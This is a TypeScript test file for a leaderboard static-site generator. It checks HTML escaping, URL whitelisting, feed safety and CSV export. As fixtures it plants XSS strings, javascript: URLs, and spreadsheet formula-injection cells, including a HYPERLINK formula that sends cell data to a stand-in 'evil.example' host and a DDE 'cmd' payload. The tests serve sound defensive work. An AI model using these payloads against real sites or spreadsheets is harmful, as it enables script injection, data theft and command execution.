import fc from 'fast-check'
import { beforeAll, describe, expect, it } from 'vitest'
import { formatNumber } from '../../src/core/text.js'
import { HtmlValidate } from 'html-validate'
import { blockedFiles } from '../../src/validate/publishable.js'
import { loadSite } from '../../src/pipeline/load-site.js'
import type { NormalizeResult } from '../../src/registry/types.js'
import { lineChart, ticks } from '../../src/render/chart.js'
import { snapshotCsv } from '../../src/render/data.js'
import { safeUrl } from '../../src/render/escape.js'
import type { SiteFile } from '../../src/render/site.js'
import { parseBaseUrl } from '../../src/render/urls.js'
import { numberCell, readShown, shownNumber } from '../../src/render/view-table.js'
import { renderNormalized, seedStore } from './helpers.js'

let seeds: NormalizeResult

beforeAll(async () => {
  seeds = (await loadSite({ dir: await seedStore(), shownAs: 'snapshots' })).normalized
})

/** The seeds with hostile values planted in a real row and its registry entry. */
function hostile(base = parseBaseUrl('/')): SiteFile[] {
  const normalized: NormalizeResult = structuredClone(seeds)
  const snapshot = normalized.snapshots.find((s) => s.board === 'lmarena-text' && s.date === '2025-11-20')!
  const grok = snapshot.rows.find((r) => r.model === 'grok-4.1')!
  grok.url = 'javascript:alert(1)'
  const gpt = snapshot.rows.find((r) => r.model === 'gpt-5.1-high')!
  gpt.url = 'https://example.org/m?a=1&b=2'
  const model = normalized.registry.models.find((m) => m.id === 'grok-4.1')!
  model.name = '<script>alert("name")</script>'
  model.organization = 'Evil "Org" <b>&'
  model.aliases.push("<img src=x onerror='alert(1)'>")
  // The new leader of 2025-11-20 is named in the feed: a CDATA end and a control character too.
  normalized.registry.models.find((m) => m.id === 'gemini-3-pro')!.name = '<script>alert("leader")</script>]]>\u0007'
  return renderNormalized(normalized, base).files
}

describe('render', () => {
  it('escapes every text and never links a non-http(s) URL', async () => {
    const files = hostile()
    const html = files.filter((f) => f.path.endsWith('.html'))
    for (const f of html) {
      expect(f.content, f.path).not.toContain('<script>alert')
      expect(f.content, f.path).not.toContain('<img src=x')
      expect(f.content, f.path).not.toContain('<b>&')
      expect(f.content, f.path).not.toMatch(/javascript:/i)
    }
    const model = html.find((f) => f.path === 'models/grok-4.1/index.html')!.content
    expect(model).toContain('<h1>&lt;script&gt;alert(&quot;name&quot;)&lt;/script&gt;</h1>')
    expect(model).toContain('<code>&lt;img src=x onerror=&#39;alert(1)&#39;&gt;</code>')
    const board = html.find((f) => f.path === 'boards/lmarena-text/index.html')!.content
    expect(board).toContain('<a class="external" href="https://example.org/m?a=1&amp;b=2" rel="nofollow noopener" aria-label="Upstream page of gpt-5.1-high">↗</a>')
    expect(board).toMatch(/<td><a href="\/organizations\/[^"]+\/">Evil &quot;Org&quot; &lt;b&gt;&amp;<\/a><\/td>/)
    // The board shows the name the row was published with; the registry's name is searched for too.
    expect(board).toContain('data-search="grok-4.1 &lt;img src=x onerror=&#39;alert(1)&#39;&gt; &lt;script&gt;alert(&quot;name&quot;)&lt;/script&gt;"')
    // Still valid HTML with hostile text in it.
    const validator = new HtmlValidate({ extends: ['html-validate:recommended'] })
    for (const path of ['models/grok-4.1/index.html', 'boards/lmarena-text/index.html', 'index.html']) {
      const report = await validator.validateString(html.find((f) => f.path === path)!.content, path)
      expect(report.results.flatMap((r) => r.messages.map((m) => m.message)), path).toEqual([])
    }
    const feed = hostile(parseBaseUrl('https://example.org/')).find((f) => f.path === 'feed.xml')!.content
    expect(feed).not.toContain('<script>')
    expect(feed).toContain('<title type="html"><![CDATA[New leader on LMArena Text: &lt;script&gt;alert(&quot;leader&quot;)&lt;/script&gt;]]&gt;]]></title>')
    expect(feed).not.toMatch(/[\u0000-\u0008]/)
  })

  it('neutralises CSV text cells that a spreadsheet would run as formulas; numbers stay numbers', () => {
    const s = structuredClone(seeds.snapshots.find((x) => x.board === 'lmarena-text')!)
    const row = s.rows[0]!
    s.rows = [
      { ...row, name: '=HYPERLINK("https://evil.example/?x="&A1,"click")', organization: '+cmd|\' /C calc\'!A0', license: '@SUM(1+1)' },
      { ...row, model: 'b', rank: 2, name: '-2+3', organization: '\tTabbed', license: '\rReturn', score: -12.5, votes: 0 },
      { ...row, model: 'c', rank: 3, name: 'plain name', organization: 'a=b', license: 'MIT' }
    ]
    const lines = snapshotCsv(s).split('\r\n')
    const header = lines[0]!.split(',')
    expect(header.slice(0, 6)).toEqual(['model', 'rank', 'rankUpper', 'rankLower', 'name', 'score'])
    expect(lines[1]).toContain(`,"'=HYPERLINK(""https://evil.example/?x=""&A1,""click"")",`)
    expect(lines[1]).toContain(`,"'+cmd|' /C calc'!A0","'@SUM(1+1)"`)
    expect(lines[2]).toContain(`,"'-2+3",-12.5,`)
    expect(lines[2]).toContain(`,"'\tTabbed","'\rReturn"`)
    expect(lines[3]).toContain(',plain name,')
    expect(lines[3]).toContain(',a=b,MIT')
    // No field of any line starts like a formula once parsed (quotes removed).
    for (const line of lines.slice(1, 4)) {
      for (const field of line.match(/("(?:[^"]|"")*"|[^,]*)(?=,|$)/g)!.filter((f) => f !== '')) {
        const value = field.startsWith('"') ? field.slice(1, -1).replace(/""/g, '"') : field
        if (!/^-?\d+(\.\d+)?$/.test(value)) expect(value, line).not.toMatch(/^[=+\-@\t\r]/)
      }
    }
  })

  it('prints a sort key only where the script cannot read it from the text', () => {
    expect(readShown('1,451')).toBe(1451)
    expect(readShown('−3')).toBe(-3)
    expect(readShown('+2')).toBe(2)
    expect(readShown('±11')).toBe(11)
    expect(readShown('+33/−27')).toBe(33)
    expect(readShown('14.61%')).toBe(14.61)
    expect(readShown('$1.25 / $10', 'price')).toBe(1.25)
    expect(readShown('? / $10', 'price')).toBe(10)
    expect(readShown('128K', 'tokens')).toBe(128_000)
    expect(readShown('1.05M', 'tokens')).toBe(1_050_000)
    expect(readShown('new')).toBeNaN()
    expect(numberCell(1451)).toEqual({ text: '1,451' })
    expect(numberCell(90.3456)).toEqual({ text: '90.35', sort: 90.3456 })
    expect(shownNumber('131.1K', 131_072, 'tokens')).toEqual({ text: '131.1K', sort: 131_072 })
    expect(shownNumber('1M', 1_000_000, 'tokens')).toEqual({ text: '1M' })
  })

  it('formats whole numbers as Intl does (en-US), by its own faster path', () => {
    const intl = new Intl.NumberFormat('en-US', { maximumFractionDigits: 0 })
    fc.assert(fc.property(fc.maxSafeInteger(), (n) => formatNumber(n) === intl.format(n)), { numRuns: 2000 })
    for (const n of [0, -0, 999, 1000, -1000, 1234567]) expect(formatNumber(n)).toBe(intl.format(n))
    expect(formatNumber(1451.567)).toBe('1,451.57')
  })

  it('quotes CSV fields that need it', () => {
    const s = structuredClone(seeds.snapshots.find((x) => x.board === 'lmarena-text')!)
    s.rows = [{ ...s.rows[0]!, name: 'a,"b"\nc', organization: 'Org' }]
    const [header, line] = snapshotCsv(s).split('\r\n')
    expect(header!.split(',')[4]).toBe('name')
    expect(line).toContain(',"a,""b""\nc",')
  })

  it('accepts only http(s) URLs as links', () => {
    expect(safeUrl('https://lmarena.ai/')).toBe('https://lmarena.ai/')
    expect(safeUrl('HTTP://example.org/x')).toBe('http://example.org/x')
    for (const bad of ['javascript:alert(1)', 'data:text/html,x', '//evil.example/', '/relative', 'https://a b', 'vbscript:x', ' javascript:x']) {
      expect(safeUrl(bad), bad).toBeUndefined()
    }
  })

  it('parses --base-url as a path or an absolute URL', () => {
    expect(parseBaseUrl(undefined)).toEqual({ path: '/' })
    expect(parseBaseUrl('/leaderlog')).toEqual({ path: '/leaderlog/' })
    expect(parseBaseUrl('https://me.github.io/leaderlog')).toEqual({ path: '/leaderlog/', absolute: 'https://me.github.io/leaderlog/' })
    expect(() => parseBaseUrl('leaderlog/')).toThrow(/Invalid --base-url `leaderlog\/`/)
    expect(() => parseBaseUrl('https://x.org/?q=1')).toThrow(/no query/)
  })
})

describe('chart', () => {
  const points = [
    { date: '2025-11-18', value: 1483, low: 1472, high: 1494 },
    { date: '2025-11-20', value: 1465, low: 1455, high: 1475 },
    { date: '2025-11-30', value: 1470, low: 1462, high: 1478 }
  ]

  it('draws a line, a confidence band and one dot per snapshot, accessible by title and description', () => {
    const svg = lineChart({ id: 'score-x', title: 'grok: score', label: 'Score', points })
    expect(svg).toMatch(/^<svg class="chart" viewBox="0 0 480 200" [^>]*role="img" aria-labelledby="score-x-title score-x-desc"/)
    expect(svg).toContain('<desc id="score-x-desc">Score from 1,483 on 2025-11-18 to 1,470 on 2025-11-30, 3 snapshots.</desc>')
    expect(svg.match(/<circle /g)).toHaveLength(3)
    expect(svg).toContain('<polygon class="chart-band"')
    const line = /<polyline class="chart-line" points="([^"]+)"/.exec(svg)![1]!.split(' ').map((p) => p.split(',').map(Number))
    // x follows the calendar: 2 days then 10 days.
    const [a, b, c] = line as [number[], number[], number[]]
    expect((c[0]! - b[0]!) / (b[0]! - a[0]!)).toBeCloseTo(5, 1)
    // Higher score is higher up.
    expect(a[1]!).toBeLessThan(b[1]!)
    expect(svg).not.toMatch(/\d\.\d{3,}/)
  })

  it('puts rank 1 at the top and draws a single snapshot as one dot', () => {
    const svg = lineChart({ id: 'r', title: 'rank', label: 'Rank', invert: true, integer: true, points: [{ date: '2025-11-18', value: 1 }, { date: '2025-11-20', value: 2 }] })
    const [first, second] = [...svg.matchAll(/<circle class="chart-dot" cx="[\d.]+" cy="([\d.]+)"/g)].map((m) => Number(m[1]))
    expect(first!).toBeLessThan(second!)
    const one = lineChart({ id: 'o', title: 'one', label: 'Score', points: [points[0]!] })
    expect(one.match(/<circle /g)).toHaveLength(1)
    expect(one).not.toContain('<polyline')
    expect(one).toContain('<line class="chart-whisker"')
  })

  it('chooses round ticks', () => {
    expect(ticks(1455, 1494, 4)).toEqual([1460, 1470, 1480, 1490])
    expect(ticks(1, 7, 4, true)).toEqual([2, 4, 6])
    expect(ticks(1, 2, 4, true)).toEqual([1, 2])
  })
})
